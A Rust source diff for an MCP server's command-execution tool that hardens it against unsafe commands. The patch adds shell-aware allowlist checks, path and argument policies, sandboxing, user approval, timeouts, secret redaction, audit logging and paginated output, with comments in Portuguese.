@@ -1,13 +1,44 @@
 use anyhow::Result;
 use rmcp::model::*;
 use rmcp::schemars::JsonSchema;
-use rmcp::ErrorData;
+use rmcp::{ErrorData, Peer, RoleServer};
 use serde::{Deserialize, Serialize};
 use serde_json::json;
-use std::process::Command;
+use std::borrow::Cow;
+use std::path::{Path, PathBuf};
 use std::sync::Arc;
+use std::time::Duration;
 use sysinfo::{Disks, System};
+use tokio::process::Command;
 use tokio::sync::Mutex;
+use tokio_util::sync::CancellationToken;
+
+mod approval;
+mod env;
+mod exec;
+mod history;
+mod jobs;
+mod output;
+mod paths;
+mod policy;
+mod processes;
+mod progress;
+mod sandbox;
+mod shell;
+
+pub use history::{audit_search, AuditSearchArgs};
+pub use jobs::{
+    job_kill, job_output, job_start, job_status, JobKillArgs, JobManager, JobOutputArgs,
+    JobStartArgs, JobStatusArgs,
+};
+pub use output::{OutputStore, Truncation};
+pub use paths::protected_paths;
+pub use processes::{list_processes, process_tree, ListProcessesArgs, ProcessTreeArgs};
+pub use progress::ProgressReporter;
+
+use crate::audit;
+use crate::config::Config;
+use crate::redact::Redactor;
 
 /// Estrutura para os argumentos do tool de informações do sistema
 #[derive(Debug, Deserialize, Serialize, JsonSchema)]
@@ -18,13 +49,44 @@ pub struct SystemInfoArgs {
 }
 
 /// Estrutura para os argumentos do tool de execução de comandos
-#[derive(Debug, Deserialize, Serialize, JsonSchema)]
+#[derive(Debug, Default, Deserialize, Serialize, JsonSchema)]
 #[schemars(crate = "rmcp::schemars")]
 pub struct ExecuteCommandArgs {
-    pub command: String,
+    /// Linha de comando interpretada por `sh -c`
+    #[serde(default)]
+    pub command: Option<String>,
+    /// Programa e argumentos executados diretamente, sem shell (ex: ["ls", "-la", "/tmp"])
+    #[serde(default)]
+    pub argv: Option<Vec<String>>,
     /// Se true, usa PolicyKit (pkexec) para autenticação com interface gráfica
     #[serde(default)]
     pub use_polkit: Option<bool>,
+    /// Tempo máximo de execução em segundos (padrão: `default_timeout_secs` do config)
+    #[serde(default)]
+    pub timeout_secs: Option<u64>,
+    /// Parte da saída mostrada quando ela excede os limites: "head" (início) ou "tail" (fim)
+    #[serde(default)]
+    pub truncate: Option<Truncation>,
+    /// Diretório de trabalho do comando (padrão: diretório do servidor)
+    #[serde(default)]
+    pub cwd: Option<String>,
+    /// Texto enviado ao stdin do comando (ex: entrada para `sort` ou `wc`)
+    #[serde(default)]
+    pub stdin: Option<String>,
+}
+
+/// Estrutura para os argumentos do tool de leitura de saídas truncadas
+#[derive(Debug, Deserialize, Serialize, JsonSchema)]
+#[schemars(crate = "rmcp::schemars")]
+pub struct GetCommandOutputArgs {
+    /// Identificador retornado por execute_command (campo execution_id)
+    pub execution_id: String,
+    /// "stdout" (padrão) ou "stderr"
+    #[serde(default)]
+    pub stream: Option<String>,
+    /// Cursor retornado em next_cursor (padrão: início da saída)
+    #[serde(default)]
+    pub cursor: Option<String>,
 }
 
 /// Obtém informações do sistema Linux
@@ -86,7 +148,7 @@ pub async fn get_system_info(
             });
             json!({ "os": os_info })
         }
-        "all" | _ => {
+        _ => {
             // Informações completas
             let disks = Disks::new_with_refreshed_list();
             let disk_info: Vec<_> = disks
@@ -143,7 +205,7 @@ pub async fn get_system_info(
 }
 
 /// Lista de comandos permitidos (Allowlist)
-/// Apenas o binário principal é verificado, não os argumentos.
+/// Todos os binários invocados pela linha de comando são verificados.
 pub const ALLOWED_COMMANDS: &[&str] = &[
     // Info do Sistema
     "ls", "cat", "grep", "find", "ps", "top", "htop", "free", "df", "du", "uname", "hostname", "uptime", "stat",
@@ -159,141 +221,657 @@ pub const ALLOWED_COMMANDS: &[&str] = &[
     "echo", "date", "whoami", "id", "wc", "sort", "uniq",
 ];
 
-/// Verifica se o comando rm é seguro
-fn is_safe_rm(command_line: &str) -> bool {
-    // Separa os argumentos
-    let parts: Vec<&str> = command_line.trim().split_whitespace().collect();
-    
-    // Ignora o binário "rm" e flags
-    let targets: Vec<&str> = parts.iter()
-        .skip(1) // Pula "rm"
-        .filter(|arg| !arg.starts_with('-')) // Remove flags como -rf
-        .map(|s| *s)
-        .collect();
-
-    if targets.is_empty() {
-        return false; // rm sem argumentos ou so com flags é perigoso/inútil
-    }
-
-    // Todos os alvos devem ser seguros
-    for target in targets {
-        // Bloqueia directory traversal explícito
-        if target.contains("..") {
-            return false;
+/// Diretórios onde binários podem ser referenciados por caminho absoluto
+pub const TRUSTED_BIN_DIRS: &[&str] = &["/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/local/bin"];
+
+/// Regra da política que bloqueou um comando, com o motivo
+#[derive(Debug)]
+struct Violation {
+    /// Chave do config (ex: `allowed_commands`, `commands.rm.allowed_paths`) ou
+    /// verificação fixa (`shell`, `expansions`, `trusted_bin_dirs`)
+    rule: String,
+    reason: String,
+}
+
+impl Violation {
+    fn new(rule: impl Into<String>, reason: impl Into<String>) -> Self {
+        Self {
+            rule: rule.into(),
+            reason: reason.into(),
         }
+    }
+}
 
-        // Verifica prefixos permitidos
-        let is_safe = target.starts_with("/tmp/") ||
-                      target.starts_with("/var/tmp/") ||
-                      target.starts_with("/var/log/") ||
-                      target.contains("/.cache/") || // Cobre /home/user/.cache e /root/.cache
-                      target.contains("/.local/share/Trash/");
-        
-        if !is_safe {
-            return false;
+/// Contexto usado na validação de um comando
+struct CheckContext<'a> {
+    config: &'a Config,
+    use_polkit: bool,
+    /// Diretório de trabalho usado para resolver caminhos relativos
+    cwd: &'a Path,
+}
+
+/// Verifica se um comando simples (já analisado) é permitido
+///
+/// Retorna as regras que permitiram o comando.
+fn is_simple_command_allowed(
+    command: &shell::SimpleCommand,
+    ctx: &CheckContext,
+) -> Result<Vec<String>, Violation> {
+    // Comandos apenas com redirecionamentos (ex: "> arquivo") não invocam binários
+    let Some(word) = command.words.first() else {
+        paths::check_paths(None, command, ctx.config, ctx.cwd)?;
+        return Ok(Vec::new());
+    };
+
+    if word.dynamic || word.glob {
+        return Err(Violation::new(
+            "expansions",
+            format!(
+                "O nome do comando '{}' depende de expansões e não pode ser verificado",
+                word.text
+            ),
+        ));
+    }
+
+    // Remove caminhos absolutos se houver (ex: /usr/bin/ls -> ls),
+    // desde que o binário esteja em um diretório confiável
+    let path = Path::new(&word.text);
+    let cmd_name = path
+        .file_name()
+        .and_then(|n| n.to_str())
+        .unwrap_or(&word.text);
+    if word.text.contains('/') {
+        let parent = path.parent().and_then(|p| p.to_str()).unwrap_or("");
+        if !TRUSTED_BIN_DIRS.contains(&parent) {
+            return Err(Violation::new(
+                "trusted_bin_dirs",
+                format!(
+                    "O binário '{}' não está em um diretório confiável",
+                    word.text
+                ),
+            ));
         }
     }
 
-    true
+    // Política de argumentos configurada em [commands.<nome>] (e a geral que o perfil redefine)
+    let policies = ctx.config.command_policies(cmd_name);
+    for (rule, policy) in &policies {
+        policy::check_arguments(cmd_name, policy, &command.words[1..], ctx.use_polkit)
+            .map_err(|reason| Violation::new(rule.as_str(), reason))?;
+    }
+
+    let allowlist = ctx.config.rule_key("allowed_commands");
+    if cmd_name == "rm" && !ctx.config.profile_allows_rm() {
+        return Err(Violation::new(
+            allowlist,
+            "O comando 'rm' não está na allowlist do perfil",
+        ));
+    }
+
+    // Política de caminhos (raízes permitidas e caminhos sensíveis)
+    paths::check_paths(Some(cmd_name), command, ctx.config, ctx.cwd)?;
+
+    // Exceção especial para o rm: permitido quando todos os alvos passam
+    // pelas raízes de [commands.rm]
+    if cmd_name == "rm" {
+        return Ok(vec![ctx.config.rule_key("commands.rm.allowed_paths")]);
+    }
+
+    if ctx.config.allowed_commands.iter().any(|s| s == cmd_name) {
+        let mut rules = vec![allowlist];
+        rules.extend(policies.into_iter().map(|(rule, _)| rule));
+        Ok(rules)
+    } else {
+        Err(Violation::new(
+            allowlist,
+            format!(
+                "O comando '{}' não está na lista de permitidos (Allowlist)",
+                cmd_name
+            ),
+        ))
+    }
 }
 
 /// Verifica se um comando é permitido
-fn is_command_allowed(command_line: &str, allowed_list: &[String]) -> bool {
-    let parts: Vec<&str> = command_line.trim().split_whitespace().collect();
-    if let Some(cmd) = parts.first() {
-        // Remove caminhos absolutos se houver (ex: /usr/bin/ls -> ls)
-        let cmd_name = std::path::Path::new(cmd)
-            .file_name()
-            .and_then(|n| n.to_str())
-            .unwrap_or(*cmd);
-        
-        // Exceção especial para o rm
-        if cmd_name == "rm" {
-            return is_safe_rm(command_line);
+///
+/// A linha inteira é analisada como shell: todos os binários invocados em
+/// pipelines, listas, subshells e substituições precisam estar na allowlist.
+fn is_command_allowed(command_line: &str, ctx: &CheckContext) -> Result<Vec<String>, Violation> {
+    let commands = shell::parse(command_line).map_err(|e| {
+        Violation::new(
+            "shell",
+            format!("Não foi possível analisar o comando com segurança: {}", e),
+        )
+    })?;
+
+    if !commands.iter().any(|c| !c.words.is_empty()) {
+        return Err(Violation::new("shell", "Nenhum comando encontrado"));
+    }
+
+    let mut rules = Vec::new();
+    for command in &commands {
+        for rule in is_simple_command_allowed(command, ctx)? {
+            if !rules.contains(&rule) {
+                rules.push(rule);
+            }
         }
-        
-        return allowed_list.iter().any(|s| s == cmd_name);
     }
-    false
+
+    Ok(rules)
 }
 
-/// Executa um comando no terminal
-pub async fn execute_command(
-    args: ExecuteCommandArgs,
-    config: Arc<crate::config::Config>,
-) -> Result<CallToolResult, ErrorData> {
-    // Validação de Segurança: Allowlist Dinâmica
-    if !is_command_allowed(&args.command, &config.allowed_commands) {
-        let _ = crate::audit::log_command(
-            &config.log_path,
-            &args.command,
-            "BLOCKED",
-            Some("Command not in allowlist"),
-        );
-        return Err(ErrorData::new(
-            ErrorCode::INVALID_PARAMS,
-            format!(
-                "Comando não permitido por segurança. O comando '{}' não está na lista de permitidos (Allowlist).",
-                args.command
+/// Verifica se um comando executado diretamente (sem shell) é permitido
+fn is_argv_allowed(argv: &[String], ctx: &CheckContext) -> Result<Vec<String>, Violation> {
+    if argv.is_empty() {
+        return Err(Violation::new("shell", "Nenhum comando encontrado"));
+    }
+
+    is_simple_command_allowed(&argv_command(argv), ctx)
+}
+
+/// Comando simples equivalente a um argv (sem shell, nenhum argumento sofre expansão)
+fn argv_command(argv: &[String]) -> shell::SimpleCommand {
+    shell::SimpleCommand {
+        words: argv
+            .iter()
+            .map(|arg| shell::Word {
+                text: arg.clone(),
+                dynamic: false,
+                glob: false,
+            })
+            .collect(),
+        redirects: Vec::new(),
+    }
+}
+
+/// Forma de execução de um comando: via `sh -c` ou diretamente pelo argv
+enum Invocation {
+    Shell(String),
+    Argv(Vec<String>),
+}
+
+impl Invocation {
+    fn from_args(args: &ExecuteCommandArgs, require_argv: bool) -> Result<Self, String> {
+        match (&args.command, &args.argv) {
+            (Some(_), Some(_)) => Err("Informe apenas 'command' ou 'argv', não ambos".to_string()),
+            (None, None) => Err("Informe 'command' ou 'argv'".to_string()),
+            (None, Some(argv)) => Ok(Invocation::Argv(argv.clone())),
+            (Some(_), None) if require_argv => Err(
+                "A configuração exige o uso de 'argv' (require_argv = true); 'command' não é aceito"
+                    .to_string(),
             ),
-            None,
-        ));
+            (Some(command), None) => Ok(Invocation::Shell(command.clone())),
+        }
     }
 
-    // Log de execução iniciada
-    let _ = crate::audit::log_command(
-        &config.log_path,
-        &args.command,
-        "ALLOWED",
-        args.use_polkit.map(|b| if b { Some("polkit") } else { Some("normal") }).unwrap_or(Some("normal")),
-    );
+    /// Representação textual para logs e resultados
+    fn display(&self) -> String {
+        match self {
+            Invocation::Shell(command) => command.clone(),
+            Invocation::Argv(argv) => shell::quote_argv(argv),
+        }
+    }
 
-    let result = if args.use_polkit.unwrap_or(false) {
-        execute_polkit_command(&args).await
-    } else {
-        execute_normal_command(&args).await
-    };
+    /// Comandos simples executados (uma linha de shell pode ter vários)
+    fn commands(&self) -> Vec<shell::SimpleCommand> {
+        match self {
+            Invocation::Shell(command) => shell::parse(command).unwrap_or_default(),
+            Invocation::Argv(argv) => vec![argv_command(argv)],
+        }
+    }
 
-    // Log de resultado
-    match &result {
-        Ok(_) => {
-            let _ = crate::audit::log_command(&config.log_path, &args.command, "SUCCESS", None);
+    /// Programas invocados (para uma linha de shell, o primeiro word de cada comando)
+    fn programs(&self) -> Vec<String> {
+        self.commands()
+            .into_iter()
+            .filter_map(|c| c.words.into_iter().next().map(|w| w.text))
+            .collect()
+    }
+
+    fn check(&self, ctx: &CheckContext) -> Result<Vec<String>, Violation> {
+        match self {
+            Invocation::Shell(command) => is_command_allowed(command, ctx),
+            Invocation::Argv(argv) => is_argv_allowed(argv, ctx),
         }
-        Err(e) => {
-            let _ = crate::audit::log_command(
-                &config.log_path,
-                &args.command,
-                "ERROR",
-                Some(&e.message),
-            );
+    }
+
+    /// Monta o processo, opcionalmente prefixado por um programa de elevação (ex: pkexec)
+    fn to_command(&self, elevation: Option<&str>, process: &ProcessContext) -> Command {
+        let mut argv: Vec<&str> = match self {
+            Invocation::Shell(command) => vec!["sh", "-c", command],
+            Invocation::Argv(argv) => argv.iter().map(String::as_str).collect(),
+        };
+        if let Some(program) = elevation {
+            argv.insert(0, program);
         }
+
+        let mut cmd = Command::new(argv[0]);
+        cmd.args(&argv[1..])
+            .current_dir(&process.cwd)
+            .env_clear()
+            .envs(process.env.iter().map(|(k, v)| (k, v)));
+        cmd
     }
+}
 
-    result
+/// Diretório de trabalho, ambiente (já filtrado) e sandbox do processo filho
+struct ProcessContext {
+    cwd: PathBuf,
+    env: Vec<(String, String)>,
+    sandbox: Option<sandbox::Sandbox>,
 }
 
-/// Executa um comando normal sem elevação de privilégios
-async fn execute_normal_command(args: &ExecuteCommandArgs) -> Result<CallToolResult, ErrorData> {
-    let mut cmd = Command::new("sh");
-    cmd.arg("-c").arg(&args.command);
+/// Invocação aprovada pela política
+struct Authorized {
+    invocation: Invocation,
+    process: ProcessContext,
+    /// Regras que permitiram o comando (ex: `allowed_commands, commands.find`)
+    rule: String,
+    /// Regras que exigem aprovação do usuário antes de executar (ver `approval`)
+    confirm: Vec<String>,
+}
 
-    let output = cmd.output().map_err(|e| {
-        ErrorData::new(
+impl Authorized {
+    /// Entrada ALLOWED do audit log, base também da entrada de resultado
+    fn audit_event(
+        &self,
+        origin: audit::Event,
+        execution_id: &str,
+        use_polkit: bool,
+    ) -> audit::Event {
+        audit::Event {
+            status: "ALLOWED".to_string(),
+            execution_id: Some(execution_id.to_string()),
+            command: self.invocation.display(),
+            elevation: Some(elevation(use_polkit).to_string()),
+            cwd: Some(self.process.cwd.display().to_string()),
+            sandbox: self.process.sandbox.as_ref().map(|s| s.name.clone()),
+            rule: Some(self.rule.clone()),
+            ..origin
+        }
+    }
+}
+
+/// Método de elevação registrado no audit log
+fn elevation(use_polkit: bool) -> &'static str {
+    if use_polkit {
+        "pkexec"
+    } else {
+        "none"
+    }
+}
+
+/// Motivo pelo qual uma requisição foi recusada
+enum Denied {
+    /// Parâmetros inválidos
+    Invalid(ErrorData),
+    /// Bloqueada pelas regras de segurança
+    Blocked {
+        command_line: String,
+        violation: Violation,
+    },
+}
+
+/// Grava um evento no audit log
+///
+/// Uma falha é reportada no stderr e, com `[audit] fail_closed`, devolvida
+/// como erro para que o comando não seja executado sem registro.
+fn record(config: &Config, event: audit::Event) -> Result<(), ErrorData> {
+    let Err(e) = audit::log(config, event) else {
+        return Ok(());
+    };
+    eprintln!("warning: failed to write audit record: {:#}", e);
+    if !config.audit.fail_closed {
+        return Ok(());
+    }
+    Err(ErrorData::new(
+        ErrorCode::INTERNAL_ERROR,
+        format!(
+            "Comando não executado: falha ao gravar o audit log ({:#})",
+            e
+        ),
+        None,
+    ))
+}
+
+/// Valida a invocação contra a política, registrando BLOCKED no audit log
+///
+/// `origin` traz a tool e o cliente que pediram a execução.
+fn authorize(
+    args: &ExecuteCommandArgs,
+    config: &Config,
+    origin: &audit::Event,
+) -> Result<Authorized, ErrorData> {
+    evaluate(args, config).map_err(|denied| match denied {
+        Denied::Invalid(e) => e,
+        Denied::Blocked {
+            command_line,
+            violation,
+        } => {
+            let event = audit::Event {
+                status: "BLOCKED".to_string(),
+                command: command_line,
+                elevation: Some(elevation(args.use_polkit.unwrap_or(false)).to_string()),
+                cwd: args.cwd.clone(),
+                rule: Some(violation.rule),
+                details: Some(violation.reason.clone()),
+                ..origin.clone()
+            };
+            let _ = record(config, event);
+            ErrorData::new(
+                ErrorCode::INVALID_PARAMS,
+                format!("Comando não permitido por segurança. {}.", violation.reason),
+                None,
+            )
+        }
+    })
+}
+
+/// Resultado de `check_command`
+pub enum CheckOutcome {
+    /// O comando seria executado (com o perfil de sandbox, se houver), talvez
+    /// só após a aprovação do usuário
+    Allowed {
+        command_line: String,
+        sandbox: Option<String>,
+        rule: String,
+        confirm: Vec<String>,
+    },
+    Blocked {
+        reason: String,
+        rule: String,
+    },
+    Invalid(String),
+}
+
+/// Avalia um comando com as mesmas regras de `execute_command`, sem executá-lo
+/// nem registrar no audit log
+pub fn check_command(args: &ExecuteCommandArgs, config: &Config) -> CheckOutcome {
+    match evaluate(args, config) {
+        Ok(authorized) => CheckOutcome::Allowed {
+            command_line: authorized.invocation.display(),
+            sandbox: authorized.process.sandbox.map(|s| s.name),
+            rule: authorized.rule,
+            confirm: authorized.confirm,
+        },
+        Err(Denied::Blocked { violation, .. }) => CheckOutcome::Blocked {
+            reason: violation.reason,
+            rule: violation.rule,
+        },
+        Err(Denied::Invalid(e)) => CheckOutcome::Invalid(e.message.to_string()),
+    }
+}
+
+fn evaluate(args: &ExecuteCommandArgs, config: &Config) -> Result<Authorized, Denied> {
+    let invocation = Invocation::from_args(args, config.require_argv)
+        .map_err(|e| Denied::Invalid(ErrorData::new(ErrorCode::INVALID_PARAMS, e, None)))?;
+    let command_line = invocation.display();
+
+    if let Some(stdin) = &args.stdin {
+        if stdin.len() > config.max_stdin_bytes {
+            return Err(Denied::Invalid(ErrorData::new(
+                ErrorCode::INVALID_PARAMS,
+                format!(
+                    "stdin excede o limite de {} bytes (max_stdin_bytes)",
+                    config.max_stdin_bytes
+                ),
+                None,
+            )));
+        }
+    }
+
+    let use_polkit = args.use_polkit.unwrap_or(false);
+    let server_cwd = std::env::current_dir().map_err(|e| {
+        Denied::Invalid(ErrorData::new(
             ErrorCode::INTERNAL_ERROR,
-            format!("Failed to execute command: {}", e),
+            format!("Failed to get current directory: {}", e),
             None,
-        )
+        ))
     })?;
+    let blocked = |violation: Violation| Denied::Blocked {
+        command_line: command_line.clone(),
+        violation,
+    };
+
+    if let Some((name, profile)) = config.profile() {
+        if use_polkit && !profile.allow_polkit {
+            return Err(blocked(Violation::new(
+                format!("profiles.{}.allow_polkit", name),
+                format!("O perfil '{}' não permite use_polkit", name),
+            )));
+        }
+    }
+
+    let cwd = match &args.cwd {
+        Some(dir) => paths::check_cwd(dir, config, &server_cwd).map_err(blocked)?,
+        None => server_cwd,
+    };
+    let ctx = CheckContext {
+        config,
+        use_polkit,
+        cwd: &cwd,
+    };
+
+    // Validação de Segurança: Allowlist Dinâmica, políticas de argumentos e de caminhos
+    let rules = invocation.check(&ctx).map_err(blocked)?;
+
+    let sandbox = sandbox::select(&invocation.programs(), config)
+        .map_err(|reason| blocked(Violation::new("sandbox", reason)))?;
+    if let (Some(sandbox), true) = (&sandbox, use_polkit) {
+        return Err(blocked(Violation::new(
+            "sandbox",
+            format!(
+                "O comando exige o perfil de sandbox '{}', que não pode ser combinado com use_polkit",
+                sandbox.name
+            ),
+        )));
+    }
+
+    let env = env::child_env(config, std::env::vars());
+    let confirm = approval::required(&invocation, config);
+    Ok(Authorized {
+        invocation,
+        process: ProcessContext { cwd, env, sandbox },
+        rule: rules.join(", "),
+        confirm,
+    })
+}
+
+/// Executa a invocação já autorizada, com ou sem elevação
+///
+/// Os segredos de stdout/stderr já saem mascarados, inclusive na saída
+/// guardada para `get_command_output`.
+async fn run_invocation(
+    invocation: &Invocation,
+    process: &ProcessContext,
+    use_polkit: bool,
+    options: exec::RunOptions,
+    redactor: &Redactor,
+    ct: &CancellationToken,
+) -> Result<exec::RunOutput, ErrorData> {
+    let mut output = if use_polkit {
+        execute_polkit_command(invocation, process, options, ct).await
+    } else {
+        execute_normal_command(invocation, process, options, ct).await
+    }?;
+    if let Cow::Owned(stdout) = redactor.bytes(&output.stdout) {
+        output.stdout = stdout;
+    }
+    if let Cow::Owned(stderr) = redactor.bytes(&output.stderr) {
+        output.stderr = stderr;
+    }
+    Ok(output)
+}
+
+/// Registra no audit log como a execução terminou
+///
+/// `started` é a entrada ALLOWED da mesma execução.
+fn log_result(
+    config: &Config,
+    started: audit::Event,
+    result: &Result<exec::RunOutput, ErrorData>,
+    timeout_secs: u64,
+    cancelled_by: &str,
+) {
+    let event = match result {
+        Ok(output) => {
+            let (status, details) = match output.termination {
+                exec::Termination::Exited => ("SUCCESS", None),
+                exec::Termination::TimedOut => {
+                    ("TIMEOUT", Some(format!("Killed after {}s", timeout_secs)))
+                }
+                exec::Termination::Cancelled => {
+                    ("CANCELLED", Some(format!("Cancelled by {}", cancelled_by)))
+                }
+            };
+            audit::Event {
+                status: status.to_string(),
+                exit_code: Some(output.exit_code()),
+                duration_ms: Some(output.duration.as_millis() as u64),
+                stdout_bytes: Some(output.stdout.len() as u64),
+                stderr_bytes: Some(output.stderr.len() as u64),
+                dropped_bytes: (output.dropped_bytes > 0).then_some(output.dropped_bytes),
+                details,
+                ..started
+            }
+        }
+        Err(e) => audit::Event {
+            status: "ERROR".to_string(),
+            details: Some(e.message.to_string()),
+            ..started
+        },
+    };
+    // O comando já rodou; a falha só é reportada
+    let _ = record(config, event);
+}
+
+/// Executa um comando no terminal
+///
+/// `origin` traz o cliente e a sessão MCP para o audit log; `peer` é o
+/// cliente a quem a aprovação é pedida quando o comando exige `confirm`.
+pub async fn execute_command(
+    args: ExecuteCommandArgs,
+    config: Arc<Config>,
+    outputs: OutputStore,
+    progress: Option<ProgressReporter>,
+    ct: CancellationToken,
+    origin: audit::Event,
+    peer: Option<Peer<RoleServer>>,
+) -> Result<CallToolResult, ErrorData> {
+    let origin = audit::Event {
+        tool: Some("execute_command".to_string()),
+        ..origin
+    };
+    let authorized = authorize(&args, &config, &origin)?;
+    let command_line = authorized.invocation.display();
+    let use_polkit = args.use_polkit.unwrap_or(false);
 
-    let result = json!({
-        "command": args.command,
-        "elevation_method": "none",
-        "exit_code": output.status.code().unwrap_or(-1),
-        "stdout": String::from_utf8_lossy(&output.stdout).to_string(),
-        "stderr": String::from_utf8_lossy(&output.stderr).to_string(),
-        "success": output.status.success(),
+    // Timeout solicitado, limitado pelo máximo configurado
+    let timeout_secs = args
+        .timeout_secs
+        .unwrap_or(config.default_timeout_secs)
+        .clamp(1, config.max_timeout_secs.max(1));
+    let redactor = Redactor::from_config(&config);
+    let (lines, forwarder) = progress.map(|p| p.spawn(redactor.clone())).unzip();
+    let options = exec::RunOptions {
+        timeout: Duration::from_secs(timeout_secs),
+        capture_limit: config.max_captured_bytes,
+        lines,
+        capture: None,
+        stdin: args.stdin.clone().map(String::into_bytes),
+    };
+
+    // Aprovação do usuário, se exigida, e log de execução iniciada
+    let execution_id = output::new_execution_id();
+    let started = authorized.audit_event(origin, &execution_id, use_polkit);
+    if !authorized.confirm.is_empty() {
+        approval::confirm(
+            &authorized,
+            peer.as_ref(),
+            &config,
+            &started,
+            use_polkit,
+            &ct,
+        )
+        .await?;
+    }
+    record(&config, started.clone())?;
+
+    let Authorized {
+        invocation,
+        process,
+        ..
+    } = authorized;
+    let result = run_invocation(&invocation, &process, use_polkit, options, &redactor, &ct).await;
+
+    // Garante que as notificações de progresso cheguem antes do resultado final
+    if let Some(forwarder) = forwarder {
+        let _ = forwarder.await;
+    }
+
+    // Log de resultado
+    log_result(&config, started, &result, timeout_secs, "the MCP client");
+
+    let output = result?;
+    let (command, elevation_method) = if use_polkit {
+        (format!("pkexec {}", command_line), "pkexec (PolicyKit)")
+    } else {
+        (command_line, "none")
+    };
+
+    // Limites de saída: mostra apenas parte e guarda o restante para paginação
+    let limits = output::Limits {
+        max_bytes: config.max_output_bytes,
+        max_lines: config.max_output_lines,
+    };
+    let mode = args.truncate.unwrap_or(config.output_truncation);
+    let stdout = output::excerpt(&output.stdout, limits, mode);
+    let stderr = output::excerpt(&output.stderr, limits, mode);
+    let truncated = stdout.truncated || stderr.truncated || output.dropped_bytes > 0;
+
+    let mut result = json!({
+        "execution_id": execution_id,
+        "command": command,
+        "elevation_method": elevation_method,
+        "exit_code": output.exit_code(),
+        "stdout": stdout.text,
+        "stderr": stderr.text,
+        "success": output.success(),
+        "timed_out": output.termination == exec::Termination::TimedOut,
+        "duration_ms": output.duration.as_millis() as u64,
+        "truncated": truncated,
+        "sandbox": process.sandbox.as_ref().map(|s| s.name.clone()),
     });
 
+    if truncated {
+        let pagination = |name: &str, excerpt: &output::Excerpt, total: usize| {
+            json!({
+                "total_bytes": total,
+                "shown_range": [excerpt.start, excerpt.end],
+                "next_cursor": match mode {
+                    Truncation::Head => (excerpt.end < total).then(|| excerpt.end.to_string()),
+                    Truncation::Tail => (excerpt.start > 0).then(|| "0".to_string()),
+                },
+                "stream": name,
+            })
+        };
+        result["pagination"] = json!({
+            "stdout": pagination("stdout", &stdout, output.stdout.len()),
+            "stderr": pagination("stderr", &stderr, output.stderr.len()),
+            "dropped_bytes": output.dropped_bytes,
+            "hint": "Use get_command_output com execution_id, stream e cursor para ler o restante",
+        });
+        outputs
+            .insert(
+                &execution_id,
+                &command,
+                output.stdout,
+                output.stderr,
+                config.output_retention,
+            )
+            .await;
+    }
+
     Ok(CallToolResult::success(vec![Content::text(
         serde_json::to_string_pretty(&result).map_err(|e| {
             ErrorData::new(
@@ -305,13 +883,46 @@ async fn execute_normal_command(args: &ExecuteCommandArgs) -> Result<CallToolRes
     )]))
 }
 
+/// Executa um comando normal sem elevação de privilégios
+async fn execute_normal_command(
+    invocation: &Invocation,
+    process: &ProcessContext,
+    options: exec::RunOptions,
+    ct: &CancellationToken,
+) -> Result<exec::RunOutput, ErrorData> {
+    let mut cmd = invocation.to_command(None, process);
+    if let Some(sandbox) = &process.sandbox {
+        sandbox.apply(&mut cmd).map_err(|e| {
+            ErrorData::new(
+                ErrorCode::INTERNAL_ERROR,
+                format!("Failed to prepare sandbox '{}': {}", sandbox.name, e),
+                None,
+            )
+        })?;
+    }
+
+    exec::run(cmd, options, ct).await.map_err(|e| {
+        ErrorData::new(
+            ErrorCode::INTERNAL_ERROR,
+            format!("Failed to execute command: {}", e),
+            None,
+        )
+    })
+}
+
 /// Executa um comando usando PolicyKit (pkexec)
 /// PolicyKit apresenta uma interface gráfica de autenticação e é mais seguro
-async fn execute_polkit_command(args: &ExecuteCommandArgs) -> Result<CallToolResult, ErrorData> {
+async fn execute_polkit_command(
+    invocation: &Invocation,
+    process: &ProcessContext,
+    options: exec::RunOptions,
+    ct: &CancellationToken,
+) -> Result<exec::RunOutput, ErrorData> {
     // Verificar se pkexec está disponível
     if Command::new("which")
         .arg("pkexec")
         .output()
+        .await
         .map(|o| !o.status.success())
         .unwrap_or(true)
     {
@@ -322,8 +933,7 @@ async fn execute_polkit_command(args: &ExecuteCommandArgs) -> Result<CallToolRes
         ));
     }
 
-    let mut cmd = Command::new("pkexec");
-    cmd.arg("sh").arg("-c").arg(&args.command);
+    let mut cmd = invocation.to_command(Some("pkexec"), process);
 
     // Importante: pkexec precisa de um ambiente gráfico ou dbus para funcionar
     // Define variáveis de ambiente necessárias
@@ -337,28 +947,53 @@ async fn execute_polkit_command(args: &ExecuteCommandArgs) -> Result<CallToolRes
         cmd.env("WAYLAND_DISPLAY", wayland);
     }
 
-    let output = cmd.output().map_err(|e| {
+    // Obs: o processo elevado roda como root, então o timeout/cancelamento só
+    // consegue encerrá-lo enquanto o pkexec ainda não trocou de usuário
+    exec::run(cmd, options, ct).await.map_err(|e| {
         ErrorData::new(
             ErrorCode::INTERNAL_ERROR,
             format!("Failed to execute pkexec command: {}. Certifique-se de que você está em um ambiente gráfico com D-Bus rodando.", e),
             None,
         )
-    })?;
+    })
+}
 
-    let result = json!({
-        "command": format!("pkexec {}", args.command),
-        "elevation_method": "pkexec (PolicyKit)",
-        "exit_code": output.status.code().unwrap_or(-1),
-        "stdout": String::from_utf8_lossy(&output.stdout).to_string(),
-        "stderr": String::from_utf8_lossy(&output.stderr).to_string(),
-        "success": output.status.success(),
-    });
+/// Lê um trecho da saída completa de uma execução truncada
+pub async fn get_command_output(
+    args: GetCommandOutputArgs,
+    config: Arc<Config>,
+    outputs: OutputStore,
+) -> Result<CallToolResult, ErrorData> {
+    let cursor = match &args.cursor {
+        Some(cursor) => cursor.parse::<usize>().map_err(|_| {
+            ErrorData::new(
+                ErrorCode::INVALID_PARAMS,
+                format!("Cursor inválido '{}'", cursor),
+                None,
+            )
+        })?,
+        None => 0,
+    };
+    let limits = output::Limits {
+        max_bytes: config.max_output_bytes,
+        max_lines: config.max_output_lines,
+    };
+
+    let page = outputs
+        .page(
+            &args.execution_id,
+            args.stream.as_deref().unwrap_or("stdout"),
+            cursor,
+            limits,
+        )
+        .await
+        .map_err(|e| ErrorData::new(ErrorCode::INVALID_PARAMS, e, None))?;
 
     Ok(CallToolResult::success(vec![Content::text(
-        serde_json::to_string_pretty(&result).map_err(|e| {
+        serde_json::to_string_pretty(&page).map_err(|e| {
             ErrorData::new(
                 ErrorCode::INTERNAL_ERROR,
-                format!("Failed to serialize command result: {}", e),
+                format!("Failed to serialize command output: {}", e),
                 None,
             )
         })?,
@@ -369,6 +1004,21 @@ async fn execute_polkit_command(args: &ExecuteCommandArgs) -> Result<CallToolRes
 mod tests {
     use super::*;
 
+    fn config_with(allowed: &[String]) -> Config {
+        Config {
+            allowed_commands: allowed.to_vec(),
+            ..Default::default()
+        }
+    }
